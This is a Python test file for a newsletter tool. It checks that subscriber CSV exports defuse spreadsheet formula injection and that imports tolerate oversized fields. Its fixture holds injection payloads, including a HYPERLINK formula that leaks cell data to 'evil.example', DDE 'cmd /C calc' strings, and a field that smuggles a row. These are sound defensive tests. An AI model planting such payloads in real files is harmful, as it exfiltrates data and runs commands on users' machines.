"""Subscriber CSV against spreadsheets and oversized fields (issue 12, items 6 and 7).

Exports open in Excel and LibreOffice, where a cell starting with `=` runs; imports
come from such exports and from other tools, and may hold anything.
"""

from __future__ import annotations

import csv
import dataclasses
import io
from pathlib import Path

import pytest

from publisher.core.config import Config
from publisher.newsletter.spreadsheet import defused, restored
from publisher.newsletter.subscribers import (
    add_subscriber,
    export_subscribers,
    import_subscribers,
    list_subscribers,
    remove_subscriber,
)
from tests.conftest import NOW

PLANTED = {
    "formula@example.org": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "plus@example.org": "+1+cmd|' /C calc'!A0",
    "minus@example.org": "-2+3",
    "at@example.org": "@SUM(1+1)*cmd|' /C calc'!A0",
    "quote@example.org": "'=already quoted by someone",
    "plain@example.org": "Ann Lee",
    "=cmd@example.org": "",
    "-dash@example.org": "O'Brien",
}


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def fresh_site(config: Config, tmp_path: Path) -> Config:
    """The same site with an empty state folder of its own."""
    paths = dataclasses.replace(config.paths, state=tmp_path / "other-state")
    return dataclasses.replace(config, paths=paths)


def test_export_never_starts_a_cell_a_spreadsheet_would_run(config: Config) -> None:
    """Reproduces item 6: names (and addresses) starting with =, +, - or @ were exported
    as they are, so opening the export in a spreadsheet ran them as formulas."""
    for email, name in PLANTED.items():
        add_subscriber(config, email, name, NOW)
    exported = cells(export_subscribers(config))
    assert exported[0] == ["email", "name", "status", "categories", "cadence"]
    for row in exported[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    by_email = {row[0]: row[1] for row in exported[1:]}
    assert by_email["formula@example.org"] == "'" + PLANTED["formula@example.org"]
    assert by_email["'=cmd@example.org"] == ""
    assert by_email["plain@example.org"] == "Ann Lee"
    assert by_email["'-dash@example.org"] == "O'Brien"


def test_export_then_import_gives_back_exactly_the_same_list(
    config: Config, tmp_path: Path
) -> None:
    for email, name in PLANTED.items():
        add_subscriber(config, email, name, NOW)
    remove_subscriber(config, "plain@example.org", NOW)
    exported = export_subscribers(config)
    (tmp_path / "export.csv").write_text(exported, encoding="utf-8")

    other = fresh_site(config, tmp_path)
    report = import_subscribers(other, tmp_path / "export.csv", NOW)
    assert report.bad_rows == []
    assert export_subscribers(other) == exported

    def rows(site: Config) -> list[tuple[str, str, str]]:
        return sorted((s.email, s.name, s.status) for s in list_subscribers(site, None))

    assert rows(other) == rows(config)
    assert ("quote@example.org", "'=already quoted by someone", "active") in rows(other)


@pytest.mark.parametrize(
    "value", ["=1+1", "+1", "-1", "@x", "\tx", "\rx", "'", "''", "'=x", "'a", "a'", "", "plain"]
)
def test_every_cell_comes_back_as_it_went_out(value: str) -> None:
    assert restored(defused(value)) == value
    assert not defused(value).startswith(("=", "+", "-", "@", "\t", "\r"))


def test_a_field_over_the_csv_modules_limit_is_one_bad_row_and_the_rest_import(
    config: Config, tmp_path: Path
) -> None:
    """Reproduces item 7: a field over 131,072 characters stopped `subscribers import` with
    a _csv.Error traceback. A quoted one spanning lines must not be read as rows either."""
    lines = [
        "email,name",
        "first@example.org,First",
        "long@example.org," + "x" * 200_000,
        "middle@example.org,Middle",
        'quoted@example.org,"' + "y" * 140_000 + '\nsmuggled@example.org,Smuggled"',
        "last@example.org,Last",
    ]
    path = tmp_path / "big.csv"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    report = import_subscribers(config, path, NOW)
    assert [line for line, _ in report.bad_rows] == [3, 5]
    assert all("characters long; the limit is 1,000" in reason for _, reason in report.bad_rows)
    emails = {s.email for s in list_subscribers(config, None)}
    assert emails == {"first@example.org", "middle@example.org", "last@example.org"}
    assert csv.field_size_limit() == 131_072  # our reader's limit was put back
